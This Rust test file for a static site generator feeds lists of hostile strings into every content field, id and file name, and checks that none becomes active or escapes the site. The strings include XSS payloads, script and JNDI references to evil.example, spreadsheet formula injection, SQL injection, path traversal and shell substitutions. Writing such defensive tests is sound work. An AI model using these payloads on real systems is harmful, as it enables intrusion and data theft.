//! Hostile text in every field of every source: nothing of it becomes active on a page, nothing leads out of the site.

mod page;
mod site;

use std::collections::BTreeMap;
use std::collections::BTreeSet;
use std::sync::Arc;

use rayon::prelude::*;

use tongbao::address::DataFile;
use tongbao::address::RESERVED;
use tongbao::address::Route;
use tongbao::compile::Compiled;
use tongbao::compile::ExportGiven;
use tongbao::compile::Memo;
use tongbao::compile::Rendered;
use tongbao::diagnostic::Level;
use tongbao::model::Id;
use tongbao::tree::RelPath;
use tongbao::tree::Tree;

use crate::support::csv;
use crate::support::html;
use crate::support::in_memory;

/// Texts that somebody else's page would run, evaluate, or be broken by.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "</script><script src=//evil.example/x.js></script>",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "x onload=alert(1)",
    "`><svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<style>*{display:none}</style>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<form action=\"https://evil.example/\"><button>x</button></form>",
    "</title><script>alert(1)</script>",
    "</textarea></style></noscript></template><script>alert(1)</script>",
    "</div></main></body></html><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id'); ?>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\u{1}javascript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https://evil.example/\" onclick=\"alert(1)",
    "https://a.example/?q=<script>",
    "https://user:pass@evil.example",
    "{{ 86028120 + 1 }}",
    "{% raw %}x{% endraw %}",
    "{% include \"layout.html\" %}",
    "{{ throw(message=\"x\") }}",
    "{# x #}{% endblock main %}",
    "{{ <date of={1} /> }}",
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x](<data:text/html,x> \"x\" onclick=alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "**<b onclick=alert(1)>**",
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x26;#x3c;script&#x26;#x3e;",
    "\u{202E}gpj.exe",
    "关于\u{200B}\u{2066}案款\u{2069}",
    "a\0b",
    "\u{1b}[31mred\u{7}",
    "\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "../../../etc/passwd",
    "/etc/passwd",
    "a/../../b",
    "..\\..\\windows",
    "con",
    "C:\\x",
    "%2e%2e%2f%2e%2e%2fx",
    "${jndi:ldap://evil.example/x}",
    "'; DROP TABLE notices; --",
    "\u{FFFD}\u{FFFE}\u{10FFFF}",
    "𝓈𝒸𝓇𝒾𝓅𝓉﹤script﹥＜script＞",
];

/// What the one sum among them would come to.
const SUM: &str = "86028121";

/// Renders every page of a tree and gives what is wrong with them.
fn judge(tree: &Tree, memo: &Arc<Memo>) -> (usize, Vec<String>) {
    let compiled = in_memory::compile(tree, memo);
    let paths: BTreeSet<String> = compiled.routes().iter().map(ToString::to_string).collect();
    let mut wrong = Vec::new();
    let mut pages = 0;
    for route in compiled.routes().iter().filter(|route| !matches!(route, Route::Asset(_))) {
        match compiled.render(route) {
            Some(Ok(Rendered::Bytes(bytes))) if route.to_string().ends_with(".html") => {
                pages += 1;
                wrong.extend(page::judge(&route.to_string(), &bytes, &paths));
                let text = String::from_utf8(bytes).expect("pages are UTF-8");
                if text.contains(SUM) {
                    wrong.push(format!("{route}: a template was evaluated"));
                }
            }
            Some(Ok(Rendered::Bytes(bytes))) if matches!(route, Route::Data(DataFile::Changes(_))) => {
                let text = String::from_utf8(bytes).expect("data are UTF-8");
                let lines = text.lines().map(|line| (line, serde_json::from_str::<serde_json::Value>(line)));
                let bad = lines.filter(|(_, read)| !read.as_ref().is_ok_and(serde_json::Value::is_object));
                wrong.extend(bad.map(|(line, _)| format!("{route}: no object of JSON: {line}")));
            }
            Some(Ok(Rendered::Bytes(bytes))) if matches!(route, Route::Data(DataFile::Workbook)) => {
                wrong.extend(workbook_faults(&bytes).map(|why| format!("{route}: {why}")));
            }
            Some(Ok(Rendered::Bytes(bytes))) if route.to_string().ends_with(".json") => {
                if let Err(why) = serde_json::from_slice::<serde_json::Value>(&bytes) {
                    wrong.push(format!("{route}: {why}"));
                }
            }
            Some(Ok(Rendered::Bytes(bytes))) if matches!(route, Route::Data(DataFile::Csv(_))) => {
                match csv::rows(&bytes) {
                    Ok(rows) => {
                        let active = rows.iter().flatten().filter(|cell| csv::is_active(cell));
                        wrong.extend(active.map(|cell| format!("{route}: a spreadsheet computes {cell:?}")));
                    }
                    Err(why) => wrong.push(format!("{route}: {why}")),
                }
            }
            Some(Ok(Rendered::Bytes(bytes))) if route.is_for_programs() && route.to_string().ends_with(".xml") => {
                wrong.extend(page::fault_of_xml(&bytes).map(|why| format!("{route}: {why}")));
            }
            Some(Ok(_)) => {}
            Some(Err(fault)) => wrong.push(format!("{route}: {fault:?}")),
            None => wrong.push(format!("{route}: nothing stands here")),
        }
    }
    // All notices go the same way.
    if let Some(notice) = compiled.site.notices.first() {
        wrong.extend(exported(&compiled, &notice.said.id, &paths));
    }
    (pages, wrong)
}

/// What is wrong with a workbook: parts that are no XML, and cells that are computed.
fn workbook_faults(bytes: &[u8]) -> impl Iterator<Item = String> {
    let mut parts = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("it is a package");
    let mut wrong = Vec::new();
    for index in 0..parts.len() {
        let mut part = parts.by_index(index).expect("the part is there");
        let name = part.name().expect("it has a name").into_owned();
        let mut text = String::new();
        std::io::Read::read_to_string(&mut part, &mut text).expect("it is UTF-8");
        let mut reader = quick_xml::Reader::from_str(&text);
        loop {
            match reader.read_event() {
                Ok(quick_xml::events::Event::Eof) => break,
                Ok(quick_xml::events::Event::Start(of)) if of.name().as_ref() == "f" => {
                    wrong.push(format!("{name}: a cell is computed"));
                }
                Ok(_) => {}
                Err(why) => {
                    wrong.push(format!("{name}: {why}"));
                    break;
                }
            }
        }
    }
    wrong.into_iter()
}

/// What is wrong with a notice as it leaves the site.
fn exported(compiled: &Compiled, id: &Id, paths: &BTreeSet<String>) -> Vec<String> {
    let none = ExportGiven::default();
    let (Some(Ok(page)), Some(Ok(package))) = (compiled.export_page(id, &none), compiled.export_fragment(id, &none))
    else {
        return vec![format!("{id}: it has no export")];
    };
    let mut wrong = page::judge_export(&format!("{id}.html"), &page, 2, paths);
    for (path, styles) in [("正文.html", 0), ("清单.html", 1)] {
        let file = package.iter().find(|(known, _)| known.as_str() == path);
        let Some((_, Rendered::Bytes(bytes))) = file else { panic!("{id} has no {path}") };
        wrong.extend(page::judge_export(path, bytes, styles, paths));
    }
    wrong
}

#[test]
fn the_site_is_whole_where_nothing_is_hostile() {
    let tree = site::tree(&|_| None);
    let memo = Arc::<Memo>::default();
    let compiled = in_memory::compile(&tree, &memo);
    let faults: Vec<_> = compiled.faults().iter().map(|fault| (fault.code.name, &fault.span)).collect();
    assert_eq!(faults, []);
    let (pages, wrong) = judge(&tree, &memo);
    assert!(pages > 40, "{pages}");
    assert_eq!(wrong, [""; 0]);
}

/// What each field of a list holds, in as many rounds as there are texts: after all of them every field held every text.
fn rounds(fields: &[String]) -> Vec<BTreeMap<&str, &'static str>> {
    let round = |round: usize| {
        let text = |place: usize| HOSTILE[(place + round) % HOSTILE.len()];
        fields.iter().enumerate().map(|(place, field)| (field.as_str(), text(place))).collect()
    };
    (0..HOSTILE.len()).map(round).collect()
}

/// Every text in every field. Fields of free text change together, with other texts each; those that take fixed words,
/// ids or dates change together, and some alone, so that the faults of one do not keep another from the pages.
#[test]
fn no_text_in_any_field_becomes_active() {
    let (free, fixed): (Vec<String>, Vec<String>) = site::fields().into_iter().partition(|field| site::is_free(field));
    let mut rounds = [rounds(&free), rounds(&fixed)].concat();
    rounds.extend(fixed.iter().zip(HOSTILE.iter().cycle()).map(|(field, text)| [(field.as_str(), *text)].into()));
    let tried: BTreeSet<(&str, &str)> = rounds.iter().flatten().map(|(field, text)| (*field, *text)).collect();
    assert_eq!(tried.len(), site::fields().len() * HOSTILE.len());
    assert!(tried.len() > 5_400, "{}", tried.len());
    let memo = Arc::<Memo>::default();
    let judged = rounds.par_iter().map(|round| {
        let tree = site::tree(&|name| round.get(name).map(|text| (*text).to_owned()));
        let (pages, wrong) = judge(&tree, &memo);
        let culprits = |wrong: String| {
            let named = round
                .iter()
                .filter(|(_, text)| wrong.contains(&text.escape_debug().to_string()))
                .map(|(field, _)| *field);
            format!("{wrong} {:?}", named.take(3).collect::<Vec<_>>())
        };
        (pages, wrong.into_iter().map(culprits).collect::<Vec<_>>())
    });
    let judged: Vec<(usize, Vec<String>)> = judged.collect();
    assert!(judged.iter().all(|(pages, _)| *pages > 20), "every round has its pages");
    let wrong: BTreeSet<&String> = judged.iter().flat_map(|(_, wrong)| wrong).collect();
    let shown: Vec<_> = wrong.iter().take(30).collect();
    assert!(wrong.is_empty(), "{} faults among {} tried, such as\n{shown:#?}", wrong.len(), tried.len());
}

/// The fields reach the pages: else the test above would show nothing.
#[test]
fn every_free_field_is_shown_somewhere() {
    let fields = site::fields();
    let free: Vec<&String> = fields.iter().filter(|field| site::is_free(field)).collect();
    let mark = |name: &str| free.iter().position(|field| *field == name).map(|place| format!("标{place}记"));
    let tree = site::tree(&mark);
    let memo = Arc::<Memo>::default();
    let all: String = in_memory::rendered(&in_memory::compile(&tree, &memo))
        .into_values()
        .map(|page| String::from_utf8_lossy(&page.unwrap()).into_owned())
        .collect();
    let unseen: Vec<&str> =
        free.iter().filter(|field| !all.contains(&mark(field).unwrap())).map(|field| field.as_str()).collect();
    // They only take part in sorting and checking.
    assert_eq!(unseen, ["topic.keyword"]);
}

/// Text that cannot be seen, or that turns what is seen, is a fault however it was written: as it is, as an escape of
/// YAML, as an entity.
#[test]
fn hidden_characters_are_faults_in_every_field() {
    let mut passed = Vec::new();
    for field in site::fields() {
        for text in ["关\u{202E}于", "关\u{200B}于", "关\u{2066}于", "关\0于", "关\u{1b}于", "关\u{FFFE}于"]
        {
            let value = |name: &str| (name == field.as_str()).then(|| text.to_owned());
            let is_fault = |tree: &Tree| site::read_alone(tree, &field).iter().any(|fault| fault.level == Level::Error);
            // Entities are not read in fences; that of NUL is read as the sign of replacement, which is seen.
            let seen = field == "body.fence" || field.starts_with("body.") && text.contains('\0');
            if !is_fault(&site::tree(&value)) || !is_fault(&site::tree_of_escapes(&value)) && !seen {
                passed.push(format!("{field} = {text:?}"));
            }
        }
    }
    assert!(passed.is_empty(), "{} passed: {:?}", passed.len(), &passed[..passed.len().min(12)]);
}

/// Names of folders and files that lead elsewhere, or that some system takes for something else.
const NAMES: &[&str] = &[
    "..",
    ".",
    "",
    "/",
    "/etc/passwd",
    "../x",
    "a/../../b",
    "..\\x",
    "C:",
    "C:\\x",
    "c:x",
    "\\\\host\\x",
    "con",
    "CON",
    "nul",
    "aux",
    "prn",
    "com1",
    "lpt9",
    "com¹",
    "con.md",
    "a.",
    "a ",
    " a",
    "a\0",
    "a\n",
    "a:b",
    "a*",
    "a?b",
    "a|b",
    "a<b>",
    "a\"b",
    "%2e%2e",
    "%2e%2e%2fx",
    "．．",
    "。。",
    "ａ",
    "A",
    "É",
    "ß",
    "ı",
    "a\u{301}",
    "a\u{200B}",
    "\u{202E}a",
    "-a",
    "a-",
    "~",
    "$HOME",
    "`id`",
    "$(id)",
    "*",
    "index",
    "files",
    "404",
    "year-2025",
    "=cmd",
    "javascript:alert(1)",
    "{{ 86028120 + 1 }}",
];

#[test]
fn no_id_leads_out_of_the_site() {
    let memo = Arc::<Memo>::default();
    let ids: Vec<String> = site::fields().into_iter().filter(|field| site::is_name(field)).collect();
    assert!(ids.len() > 10, "{ids:?}");
    ids.par_iter().for_each(|field| {
        for name in NAMES {
            let tree = site::tree(&|of| (of == field.as_str()).then(|| (*name).to_owned()));
            let compiled = in_memory::compile(&tree, &memo);
            let fine = Id::new(name).is_some();
            assert!(fine || compiled.stops_build() || name.is_empty() || field.contains("file"), "{field} = {name:?}");
            for route in compiled.routes() {
                let path = route.path();
                assert!(RelPath::new(path.as_str()).is_ok(), "{path}");
                let windows = ["con", "nul", "aux", "prn", "com1", "lpt9"];
                assert!(path.parts().all(|part| !windows.contains(&part.to_lowercase().as_str())), "{path}");
            }
        }
    });
}

#[test]
fn no_file_name_leads_out_of_the_site() {
    let routes = |tree: &Tree| {
        let memo = Arc::<Memo>::default();
        in_memory::compile(tree, &memo).routes().iter().map(ToString::to_string).collect::<BTreeSet<String>>()
    };
    let known = routes(&site::tree(&|_| None));
    let places =
        ["content/notices/{}.md", "content/notices/{}/notice.md", "content/organs/{}.yaml", "content/pages/{}.md"];
    let tried: Vec<(&str, &str)> = NAMES.iter().flat_map(|name| places.map(|place| (*name, place))).collect();
    tried.par_iter().for_each(|(name, place)| {
        let Ok(path) = RelPath::new(&place.replace("{}", name)) else { return };
        let mut tree = site::tree(&|_| None);
        let text =
            if place.ends_with("md") { "---\ntitle: 甲\nkind: plan\n---\n#### 1. 甲\n" } else { "name: 甲\n" };
        in_memory::put(&mut tree, path.as_str(), text.as_bytes());
        let taken = Id::new(name).is_some() && !(place.contains("pages") && RESERVED.contains(name));
        let own = [format!("/{name}/index.html"), format!("{name}/index.html")];
        let new: Vec<String> = routes(&tree).into_iter().filter(|route| !known.contains(route)).collect();
        assert_eq!(new.iter().any(|route| own.iter().any(|own| route.ends_with(own))), taken, "{path}: {new:?}");
        let memo = Arc::<Memo>::default();
        assert!(taken || in_memory::compile(&tree, &memo).stops_build(), "{path} is passed over in silence");
        let (_, wrong) = judge(&tree, &memo);
        assert_eq!(wrong, [""; 0], "{path}");
    });
}

#[test]
fn names_of_attachments_are_links_to_those_files_and_no_more() {
    for name in [
        "a'onerror=alert(1).csv",
        "a&b.csv",
        "a&amp;b.csv",
        "#a.csv",
        "%2e%2e%2fx.csv",
        "%00.csv",
        "=cmd.csv",
        "a b　c.csv",
        "javascript&colon;alert(1).csv",
        "清单（终稿）.csv",
        "{{ 86028120 + 1 }}.csv",
        "a+b;c,d=e@f!.csv",
        "..a.csv",
        "a..csv",
        "-rf",
    ] {
        let mut tree = site::tree(&|field| (field == "notice.attachment.file").then(|| name.to_owned()));
        in_memory::put(&mut tree, &format!("content/notices/one/{name}"), b"1");
        let memo = Arc::<Memo>::default();
        let compiled = in_memory::compile(&tree, &memo);
        assert!(!compiled.stops_build(), "{name}: {:?}", compiled.faults());
        let is_it = |route: &&Route| matches!(route, Route::Attachment(_, file) if file == name);
        let route = compiled.routes().iter().find(is_it).unwrap();
        assert_eq!(route.to_string(), format!("notices/one/files/{name}"));
        assert_eq!(Route::parse(&route.to_string()).as_ref(), Some(route));
        let (_, wrong) = judge(&tree, &memo);
        assert_eq!(wrong, [""; 0], "{name}");
        let Some(Ok(Rendered::Bytes(bytes))) = compiled.render(&Route::parse("notices/one/index.html").unwrap()) else {
            panic!("{name}")
        };
        let links = html::elements(&html::parse(&bytes).document)
            .into_iter()
            .filter_map(|of| of.get("href").map(str::to_owned));
        let encoded = Route::parse("notices/one/index.html").unwrap().link(route);
        assert_eq!(links.filter(|link| *link == encoded).count(), 1, "{name}");
    }
}
